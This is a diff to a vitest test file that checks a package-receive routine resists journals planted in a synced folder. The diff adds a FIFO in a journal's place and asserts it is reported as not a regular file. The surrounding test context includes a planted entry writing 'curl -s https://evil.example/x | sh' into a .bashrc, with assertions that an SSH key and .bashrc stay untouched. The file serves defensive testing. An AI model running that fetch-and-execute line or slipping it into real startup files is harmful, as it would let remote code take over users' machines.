@@ -3,6 +3,7 @@
  * journal's commit point (and by --dry-run), and what cannot be finished never blocks the world.
  */
 import { afterAll, describe, it, expect } from 'vitest';
+import { execFileSync } from 'node:child_process';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -296,7 +297,11 @@ describe('leftovers planted by someone who can write the world (a synced folder)
         log: { path: '02_Life/shortcut/.bashrc', entry: 'curl -s https://evil.example/x | sh\n', walnut: 'x', timestamp: '2026-01-01T00:00:00Z', summary: 's' },
       }),
     );
+    // A FIFO in a journal's place would hold the receive (and the world's lock) for good.
+    mkdirSync(join(receiving, 'planted-3'), { recursive: true });
+    execFileSync('mkfifo', [join(receiving, 'planted-3', 'journal.json')]);
     const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
+    expect(r.notes.join('\n')).toMatch(/planted-3.*cannot be finished: journal\.json is not a regular file/);
     expect(readFileSync(join(home, '.ssh', 'id_ed25519'), 'utf8')).toBe('secret key\n');
     expect(existsSync(join(world, '04_Ventures', 'stolen_key'))).toBe(false);
     expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('export A=1\n');
